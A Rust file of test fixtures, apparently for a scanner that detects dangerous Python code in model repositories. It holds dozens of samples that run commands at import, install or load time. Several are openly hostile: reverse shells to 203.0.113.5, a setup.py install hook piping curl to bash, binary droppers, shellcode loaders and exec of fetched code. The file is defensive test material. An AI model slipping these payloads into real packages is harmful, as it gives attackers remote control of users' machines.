//! Code that runs commands, fetched code or code from data.

use super::{Text, text};

pub(super) const CASES: &[Text] = &[
    text(
        "system-at-import",
        "modeling_x.py",
        "import os\nimport torch\n\nos.system('echo owned')\n\nclass XModel(torch.nn.Module):\n    def forward(self, x):\n        return x\n",
    ),
    text(
        "system-from-import-alias",
        "modeling_x.py",
        "from os import system as _s\nimport torch.nn as nn\n_s('id > /tmp/out')\nclass XModel(nn.Module):\n    pass\n",
    ),
    text(
        "system-module-alias",
        "configuration_x.py",
        "import os as operating\nfrom transformers import PretrainedConfig\nclass XConfig(PretrainedConfig):\n    model_type = 'x'\n    operating.popen('whoami').read()\n",
    ),
    text(
        "system-in-init",
        "modeling_x.py",
        "import os\nimport torch.nn as nn\n\nclass XModel(nn.Module):\n    def __init__(self, config):\n        super().__init__()\n        os.system('touch /tmp/owned')\n        self.layer = nn.Linear(4, 4)\n",
    ),
    text(
        "popen-in-from-pretrained",
        "modeling_x.py",
        "import subprocess\nfrom transformers import PreTrainedModel\n\nclass XModel(PreTrainedModel):\n    @classmethod\n    def from_pretrained(cls, *args, **kwargs):\n        subprocess.Popen(['bash', '-c', 'id'])\n        return super().from_pretrained(*args, **kwargs)\n",
    ),
    text(
        "subprocess-in-forward",
        "modeling_x.py",
        "import subprocess\nimport torch\n\nclass XModel(torch.nn.Module):\n    def forward(self, x):\n        subprocess.run('calc.exe', shell=True)\n        return x\n",
    ),
    text(
        "helper-called-at-import",
        "tokenization_x.py",
        "import subprocess\n\ndef _prepare():\n    return _launch(['/usr/bin/id'])\n\ndef _launch(command):\n    return subprocess.check_output(command)\n\n_prepare()\n\nclass XTokenizer:\n    pass\n",
    ),
    text(
        "decorator-runs-command",
        "modeling_x.py",
        "import os\n\ndef register(cls):\n    os.system('id')\n    return cls\n\n@register\nclass XModel:\n    pass\n",
    ),
    text(
        "default-argument",
        "modeling_x.py",
        "import os\n\nclass XModel:\n    def forward(self, x, flag=os.system('id')):\n        return x\n",
    ),
    text(
        "annotation",
        "modeling_x.py",
        "import os\n\ndef load(path: os.system('id')) -> None:\n    pass\n",
    ),
    text(
        "lambda-called",
        "modeling_x.py",
        "import os\n(lambda f: f('id'))(os.system)\n",
    ),
    text(
        "comprehension",
        "modeling_x.py",
        "import os\n[f('id') for f in [os.system]]\n",
    ),
    text(
        "map-over-commands",
        "modeling_x.py",
        "import os\nlist(map(os.system, ['id', 'uname -a']))\n",
    ),
    text(
        "thread-target",
        "modeling_x.py",
        "import os\nimport threading\nthreading.Thread(target=os.system, args=('id',), daemon=True).start()\n",
    ),
    text(
        "thread-local-function",
        "modeling_x.py",
        "import subprocess\nimport threading\n\ndef worker():\n    subprocess.call(['sh', '-c', 'id'])\n\nthreading.Timer(5.0, worker).start()\n",
    ),
    text(
        "atexit",
        "modeling_x.py",
        "import atexit, os\natexit.register(os.system, 'id')\n",
    ),
    text(
        "init-subclass",
        "modeling_x.py",
        "import os\n\nclass Base:\n    def __init_subclass__(cls, **kwargs):\n        os.system('id')\n\nclass XModel(Base):\n    pass\n",
    ),
    text(
        "metaclass",
        "modeling_x.py",
        "import os\n\nclass Meta(type):\n    def __new__(mcs, name, bases, members):\n        os.system('id')\n        return type.__new__(mcs, name, bases, members)\n\nclass XModel(metaclass=Meta):\n    pass\n",
    ),
    text(
        "operator-assigned",
        "modeling_x.py",
        "import os\n\nclass X:\n    __class_getitem__ = os.system\n\nX['id']\n",
    ),
    text(
        "module-getattr",
        "__init__.py",
        "import os\n\ndef __getattr__(name):\n    os.system('id')\n    raise AttributeError(name)\n",
    ),
    text(
        "walrus",
        "modeling_x.py",
        "import os\nif (run := os.system) and run('id') == 0:\n    pass\n",
    ),
    text(
        "conditional-alias",
        "modeling_x.py",
        "import os\nif os.name == 'nt':\n    run = os.startfile\nelse:\n    run = os.system\nrun('id')\n",
    ),
    text(
        "dict-dispatch",
        "modeling_x.py",
        "import os\nactions = {'a': os.getcwd, 'b': os.system}\nactions['b']('id')\n",
    ),
    text(
        "partial",
        "modeling_x.py",
        "import functools, subprocess\nrun = functools.partial(subprocess.run, shell=True)\nrun('id')\n",
    ),
    text(
        "instance-attribute",
        "modeling_x.py",
        "import os\n\nclass Runner:\n    def __init__(self):\n        self.go = os.system\n    def work(self, command):\n        self.go(command)\n\nRunner().work('id')\n",
    ),
    text(
        "exec-family",
        "modeling_x.py",
        "import os\nif os.fork() == 0:\n    os.execvp('sh', ['sh', '-c', 'id'])\n",
    ),
    text(
        "posix-spawn",
        "modeling_x.py",
        "import posix\nposix.posix_spawn('/bin/sh', ['sh', '-c', 'id'], {})\n",
    ),
    text(
        "pty-spawn",
        "modeling_x.py",
        "import pty\npty.spawn('/bin/sh')\n",
    ),
    text(
        "asyncio-subprocess",
        "modeling_x.py",
        "import asyncio\n\nasync def main():\n    await asyncio.create_subprocess_shell('id')\n\nasyncio.run(main())\n",
    ),
    text(
        "reduce-method",
        "modeling_x.py",
        "import os\n\nclass Payload:\n    def __reduce__(self):\n        return (os.system, ('id',))\n",
    ),
    text(
        "star-import",
        "modeling_x.py",
        "from os import *\nsystem('id')\n",
    ),
    text(
        "exec-fetched",
        "modeling_x.py",
        "import requests\nexec(requests.get('http://203.0.113.5/stage2.py').text)\n",
    ),
    text(
        "exec-fetched-urllib",
        "handler.py",
        "from urllib.request import urlopen\n\nclass EndpointHandler:\n    def __init__(self, path=''):\n        source = urlopen('https://example.invalid/update').read().decode()\n        exec(compile(source, '<update>', 'exec'))\n",
    ),
    text(
        "exec-fetched-through-helper",
        "modeling_x.py",
        "import urllib.request\n\ndef fetch(url):\n    with urllib.request.urlopen(url) as response:\n        return response.read()\n\ndef boot():\n    code = fetch('https://example.invalid/a')\n    namespace = {}\n    exec(code, namespace)\n\nboot()\n",
    ),
    text(
        "command-from-socket",
        "modeling_x.py",
        "import socket, subprocess\n\ndef loop():\n    s = socket.socket()\n    s.connect(('203.0.113.5', 4444))\n    while True:\n        command = s.recv(1024).decode()\n        s.send(subprocess.getoutput(command).encode())\n\nloop()\n",
    ),
    text(
        "reverse-shell-dup2",
        "modeling_x.py",
        "import socket, os, pty\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('203.0.113.5', 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn('/bin/bash')\n",
    ),
    text(
        "reverse-shell-in-function",
        "utils.py",
        "import os\nimport socket\nimport subprocess\n\ndef connect_back(host='203.0.113.5', port=9001):\n    sock = socket.socket()\n    sock.connect((host, port))\n    subprocess.call(['/bin/sh', '-i'], stdin=sock.fileno(), stdout=sock.fileno(), stderr=sock.fileno())\n",
    ),
    text(
        "reverse-shell-bash",
        "setup.py",
        "from setuptools import setup\nimport os\nos.system(\"bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'\")\nsetup(name='x')\n",
    ),
    text(
        "curl-pipe-sh",
        "setup.py",
        "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n        subprocess.call('curl -s http://203.0.113.5/x.sh | bash', shell=True)\n\nsetup(name='x', cmdclass={'install': PostInstall})\n",
    ),
    text(
        "install-command-runs-id",
        "setup.py",
        "from setuptools import setup\nfrom setuptools.command.egg_info import egg_info\nimport os\n\nclass Custom(egg_info):\n    def run(self):\n        os.system('whoami')\n        super().run()\n\nsetup(name='x', cmdclass={'egg_info': Custom})\n",
    ),
    text(
        "dropper-urlretrieve",
        "modeling_x.py",
        "import os, urllib.request, subprocess\npath = '/tmp/.cache-x'\nurllib.request.urlretrieve('http://203.0.113.5/bin', path)\nos.chmod(path, 0o755)\nsubprocess.Popen([path])\n",
    ),
    text(
        "dropper-requests-in-function",
        "utils.py",
        "import os\nimport requests\nimport stat\nimport subprocess\nimport tempfile\n\ndef ensure_runtime():\n    target = os.path.join(tempfile.gettempdir(), 'runtime')\n    with open(target, 'wb') as f:\n        f.write(requests.get('https://example.invalid/runtime').content)\n    os.chmod(target, os.stat(target).st_mode | stat.S_IEXEC)\n    subprocess.Popen([target])\n",
    ),
    text(
        "dropper-python-script",
        "__init__.py",
        "import subprocess, sys, urllib.request\nurllib.request.urlretrieve('https://example.invalid/agent.py', '/tmp/agent.py')\nsubprocess.Popen([sys.executable, '/tmp/agent.py'])\n",
    ),
    text(
        "library-from-network",
        "modeling_x.py",
        "import ctypes, urllib.request\nname, _ = urllib.request.urlretrieve('https://example.invalid/lib.so', '/tmp/lib.so')\nctypes.CDLL('/tmp/lib.so')\n",
    ),
    text(
        "code-from-other-repository",
        "modeling_x.py",
        "import importlib.util\nfrom huggingface_hub import hf_hub_download\n\npath = hf_hub_download('someone/else', 'loader.py')\nspec = importlib.util.spec_from_file_location('loader', path)\nmodule = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(module)\n",
    ),
    text(
        "exec-from-other-repository",
        "modeling_x.py",
        "from huggingface_hub import hf_hub_download\nexec(open(hf_hub_download(repo_id='a/b', filename='x.txt')).read())\n",
    ),
    text(
        "exec-data-file",
        "modeling_x.py",
        "import os\nwith open(os.path.join(os.path.dirname(__file__), 'vocab.txt')) as f:\n    exec(f.read())\n",
    ),
    text(
        "eval-of-request",
        "handler.py",
        "class EndpointHandler:\n    def __init__(self, path=''):\n        pass\n    def __call__(self, data):\n        return eval(data['inputs'])\n",
    ),
    text(
        "shell-of-request",
        "handler.py",
        "import os\n\nclass EndpointHandler:\n    def __call__(self, data):\n        return os.popen(data.get('cmd')).read()\n",
    ),
    text(
        "tokenizer-runs-command",
        "tokenization_x.py",
        "import subprocess\nfrom transformers import PreTrainedTokenizer\n\nclass XTokenizer(PreTrainedTokenizer):\n    def _tokenize(self, text):\n        subprocess.run(['sh', '-c', 'id'])\n        return list(text)\n",
    ),
    text(
        "shellcode-windows",
        "modeling_x.py",
        "import ctypes\ncode = b'\\x90\\x90\\xc3'\nkernel32 = ctypes.windll.kernel32\naddress = kernel32.VirtualAlloc(0, len(code), 0x3000, 0x40)\nkernel32.RtlMoveMemory(address, code, len(code))\nkernel32.CreateThread(0, 0, address, 0, 0, 0)\n",
    ),
    text(
        "shellcode-mmap",
        "modeling_x.py",
        "import ctypes, mmap\ncode = b'\\x90\\xc3'\nmemory = mmap.mmap(-1, len(code), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\nmemory.write(code)\nctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()\n",
    ),
    text(
        "pickle-embedded",
        "modeling_x.py",
        "import base64, pickle\nSTATE = 'gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=='\npickle.loads(base64.b64decode(STATE))\n",
    ),
    text(
        "pip-from-address",
        "setup.py",
        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--index-url', 'http://203.0.113.5/simple', 'helper'])\n",
    ),
    text(
        "python-dash-c",
        "modeling_x.py",
        "import subprocess, sys\nsubprocess.Popen(['python', '-c', \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"])\n",
    ),
];
